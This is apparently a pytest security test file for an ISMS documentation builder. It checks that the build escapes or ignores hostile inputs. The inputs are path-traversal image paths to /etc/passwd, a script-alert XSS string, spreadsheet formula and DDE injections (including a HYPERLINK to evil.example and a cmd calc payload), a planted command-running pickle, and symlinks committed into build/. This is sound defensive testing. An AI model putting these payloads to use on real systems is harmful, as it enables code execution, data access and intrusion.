    append_procedure(sample, "5.15", ".. image:: ../../../../etc/passwd")
    policy_file("../../../../etc/hostname")(sample)
    log = tmp_path / "audit" / "audit.json"
    log.parent.mkdir()
    record = audited(sample, log, "check")
    assert record["code"] == 1
    assert record["connected"] == []
    assert outside_files(record, sample, log) == []


# --------------------------------------------------------------------------- hostile text in the outputs


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict, Path]:
    """The sample with every accepted-but-hostile text at once, built under an audit hook: each text
    must come out literally, and the build must read nothing outside the repository."""
    root = copy_sample(tmp_path_factory.mktemp("hostile") / "isms")
    for case in CASES:
        if case.message is None and case.name != "markup-characters-in-org-name":  # one org name at a time
            case.mutate(root)
    replace_line(root, "manual_src/profile.yaml", "    産業機械・医療機器メーカー向け", "    R&D <core> *強調ではない* `x`_ |置換| [1]_ 産業機械・医療機器メーカー向け")
    log = root.parent / "audit" / "audit.json"
    log.parent.mkdir()
    record = audited(root, log, "build")
    assert record["code"] == 0
    return root, record, log


@pytest.fixture(scope="module")
def hostile_build(hostile: tuple[Path, dict, Path]) -> Path:
    return hostile[0] / "build"


def test_build_reads_nothing_outside_the_repository(hostile: tuple[Path, dict, Path]) -> None:
    root, record, log = hostile
    # Every process was audited: Sphinx's, which reads the pages, runs beside the build's.
    readers = {pid for pid, path in zip(record["opened_by"], record["opened"], strict=True) if "/.cache/html/src/" in path and path.endswith(".rst")}
    assert readers and len(set(record["opened_by"])) >= 2
    assert record["connected"] == []
    assert outside_files(record, root, log) == []
    programs = {Path(path.removeprefix("exec:")).name for path in record["opened"] if path.startswith("exec:")}
    # pandoc (pypandoc looks for it in several places), git for the ledger, LibreOffice and poppler
    # for the manual's page numbers.
    assert programs <= {"pandoc", "pandoc.exe", "git", "soffice", "pdfinfo"}, programs


def test_no_script_reaches_the_site(hostile_build: Path) -> None:
    pages = [p for p in (hostile_build / "html").rglob("*.html")]
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in text, page
        assert 'http-equiv="Content-Security-Policy"' in text, page
    home = (hostile_build / "html/index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; Co" in home
    context = (hostile_build / "html/manual/04_context.html").read_text(encoding="utf-8")
    assert "R&amp;D &lt;core&gt; *強調ではない* `x`_ |置換| [1]_" in context
    assert "שלום עולם" in (hostile_build / "html/controls/5.15.html").read_text(encoding="utf-8")


def test_no_formula_reaches_the_spreadsheets(hostile_build: Path) -> None:
    import zipfile

    from openpyxl import load_workbook

    books = list((hostile_build / "xlsx").glob("*.xlsx"))
    assert books
    for book in books:
        with zipfile.ZipFile(book) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), (book.name, name)
    values = {}
    for book in books:
        for sheet in load_workbook(book).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=@+-":
                        values[cell.value] = (cell.data_type, cell.quotePrefix)
    assert values['=HYPERLINK("http://evil.example","x")'] == ("s", True)
    assert values["@SUM(1+1) -2 +3"] == ("s", True)
    assert any(v.startswith("=cmd|' /C calc'!A1") for v in values)


def test_hostile_text_is_literal_in_word(hostile_build: Path) -> None:
    import zipfile

    soa = next((hostile_build / "docx").glob("ISMS-R-01*.docx"))
    with zipfile.ZipFile(soa) as archive:
        document = archive.read("word/document.xml").decode()
        core = archive.read("docProps/core.xml").decode()
    assert "=cmd|&apos; /C calc&apos;!A1" in document or "=cmd|' /C calc'!A1" in document
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; Co" in core
    procedure = next((hostile_build / "docx").glob("ISMS-C-5-15*.docx"))
    with zipfile.ZipFile(procedure) as archive:
        assert any(name.startswith("word/media/") for name in archive.namelist()), "the PNG is embedded"


def test_images_are_published_under_content_names(hostile_build: Path) -> None:
    images = list((hostile_build / "html/_images").glob("*.png"))
    assert len(images) == 1 and len(images[0].stem) == 32
    assert b"root:" not in b"".join(p.read_bytes() for p in (hostile_build / "html/_images").iterdir())


def test_no_dialog_opens_in_a_browser(hostile_build: Path, browser) -> None:
    dialogs: list[str] = []
    violations: list[str] = []
    for base in serve(hostile_build / "html"):
        context = browser.new_context()
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
        for name in ("index.html", "soa.html", "controls/5.15.html", "search.html?q=script"):
            page.goto(f"{base}/{name}")
            page.wait_for_load_state("load")
        assert page.evaluate("document.body.dataset.theme") in ("auto", "light", "dark")  # the theme's allowed script ran
        context.close()
    assert dialogs == [] and violations == []


# --------------------------------------------------------------------------- build/ is not a source


PLANTED_PICKLE = """
import os, pickle, sys
class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + sys.argv[2],))
open(sys.argv[1], "wb").write(pickle.dumps(Payload()))
"""


def test_files_planted_in_build_are_not_reused(built_sample: Path, shared_word_cache: Path, tmp_path: Path, run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pull request can commit files into build/ (`git add -f`). Sphinx unpickles its cache, the Word
    writer reuses files by name, parsed YAML is kept pickled, a stamp skips the build: none of them
    may take a planted file."""
    import subprocess
    import sys

    from isms.publish.manifest import output_files
    from isms.sources.yamlio import _parsed_key, read_source

    monkeypatch.delenv("ISMS_CACHE_DIR", raising=False)  # the caches in build/, where a checkout puts files
    root = built_sample
    copy_cache_entries(shared_word_cache, root / "build/.cache")
    assert run("--root", str(root), "build").code == 0
    genuine = {name: path.read_bytes() for name, path in output_files(root / "build").items()}
    # A pickle that runs a command where Sphinx loads its environment, and under the name the parsed
    # form of a control file has (computable: the name is a hash of the file); another document's
    # bytes in place of a Word cache entry; a script in the published site (the stamp still names the set).
    marker = tmp_path / "pwned"
    subprocess.run([sys.executable, "-c", PLANTED_PICKLE, str(root / "build/.cache/html/doctrees/environment.pickle"), str(marker)], check=True)
    text, _ = read_source(root / "controls/5.15.yaml", root)
    subprocess.run([sys.executable, "-c", PLANTED_PICKLE, str(root / "build/.cache/yaml" / _parsed_key(text)), str(marker)], check=True)
    # The same pickle in the pack of parsed files (isms.trust: one file holding the entries a check
    # used), under a tag made without the machine's key.
    pack = root / "build/.cache/yaml/.pack"
    key, payload = _parsed_key(text).encode(), (root / "build/.cache/yaml" / _parsed_key(text)).read_bytes()
    pack.write_bytes(bytes(32) + len(key).to_bytes(2, "big") + key + len(payload).to_bytes(8, "big") + payload)
    entries = sorted((root / "build/.cache/docx").glob("*.docx"))
    entries[0].write_bytes(entries[1].read_bytes())
    index = root / "build/html/index.html"
    index.unlink()  # a hard link shared with the cache: replace it, as a checkout would
    index.write_text("<script>alert(1)</script>", encoding="utf-8")
    result = run("--root", str(root), "build")
    assert result.code == 0, result.err
    assert not marker.exists()
    rebuilt = {name: path.read_bytes() for name, path in output_files(root / "build").items()}
    assert rebuilt == genuine
    assert "前回のビルドから変更なし" not in result.err
    # What the tool sealed itself is reused: nothing changed now.
    again = run("--root", str(root), "build")
    assert "前回のビルドから変更なし" in again.err


def test_a_pack_of_cache_entries_serves_only_under_this_machines_tag(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The entries a check used are packed into one file per kind (isms.trust.prune): the pack serves
    them when its tag is this machine's, and is ignored when a byte of it or the key differs."""
    from isms import trust

    monkeypatch.delenv("ISMS_CACHE_DIR", raising=False)
    monkeypatch.setenv("ISMS_KEY_FILE", str(tmp_path / "keys" / "one"))
    root = tmp_path / "isms"
    root.mkdir()
    entries = {f"{number:064x}": f"entry {number}".encode() * number for number in range(1, 21)}
    for key, data in entries.items():
        trust.store(root, "kind", key, data)
    trust.prune(root, "kind", set(entries))
    folder = trust.cache_folder(root, "kind")
    pack = folder / ".pack"
    assert pack.is_file()
    for key in entries:
        (folder / key).unlink()  # served from the pack alone
    assert {key: trust.load(root, "kind", key) for key in entries} == entries
    trust.prune(root, "kind", set(entries))  # forgets the pack it read: the next load reads it again
    genuine = pack.read_bytes()
    pack.write_bytes(genuine[:-1] + bytes([genuine[-1] ^ 1]))
    assert [trust.load(root, "kind", key) for key in entries] == [None] * len(entries)
    trust.prune(root, "kind", set())
    pack.write_bytes(genuine)
    monkeypatch.setenv("ISMS_KEY_FILE", str(tmp_path / "keys" / "two"))  # another machine's key
    assert [trust.load(root, "kind", key) for key in entries] == [None] * len(entries)


def test_links_planted_in_build_lead_nowhere(pristine: Path, shared_word_cache: Path, tmp_path: Path, run, monkeypatch: pytest.MonkeyPatch) -> None:
    """Symlinks committed into build/: the Sphinx cache pointing at a folder with a command-running
    pickle, the sets folder and a cache folder pointing at someone's files, `current` pointing outside.
    The build removes the links (never their targets), runs nothing and touches nothing outside."""
    import shutil
    import subprocess
    import sys

    monkeypatch.delenv("ISMS_CACHE_DIR", raising=False)
    root = tmp_path / "isms"
    shutil.copytree(pristine, root, symlinks=True)
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "doctrees").mkdir(parents=True)
    marker = tmp_path / "pwned"
    subprocess.run([sys.executable, "-c", PLANTED_PICKLE, str(elsewhere / "doctrees/environment.pickle"), str(marker)], check=True)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine", encoding="utf-8")
    copy_cache_entries(shared_word_cache, root / "build/.cache")  # the Word files are not what this is about
    shutil.rmtree(root / "build/.cache/yaml", ignore_errors=True)
    (root / "build/.cache").mkdir(parents=True, exist_ok=True)
    (root / "build/.cache/html").symlink_to(elsewhere)
    (root / "build/.cache/yaml").symlink_to(victim)
    (root / "build/.sets").symlink_to(victim)
    (root / "build/current").symlink_to(victim)
    result = run("--root", str(root), "build")
    assert result.code == 0, result.err
    assert not marker.exists()
    assert (elsewhere / "doctrees/environment.pickle").is_file()  # the target is not touched
    assert sorted(p.name for p in victim.iterdir()) == ["keep.txt"]
    for name in (".cache/html", ".cache/yaml", ".sets"):
        assert not (root / "build" / name).is_symlink()
    assert (root / "build/html/index.html").is_file()


def test_image_sizes_are_read_from_their_headers(tmp_path: Path) -> None:
    from isms.sources.media import _dimensions

    (tmp_path / "a.jpg").write_bytes(jpeg_header(800, 600))
    (tmp_path / "a.png").write_bytes(tiny_png())
    (tmp_path / "a.gif").write_bytes(b"GIF89a" + (320).to_bytes(2, "little") + (200).to_bytes(2, "little") + b"\x00" * 10)
    assert _dimensions(tmp_path / "a.jpg", ".jpg") == (800, 600)
    assert _dimensions(tmp_path / "a.png", ".png") == (2, 2)
    assert _dimensions(tmp_path / "a.gif", ".gif") == (320, 200)
    (tmp_path / "b.jpg").write_bytes(b"\xff\xd8\xff\xe0\x00")  # cut off inside a segment
    assert _dimensions(tmp_path / "b.jpg", ".jpg") is None
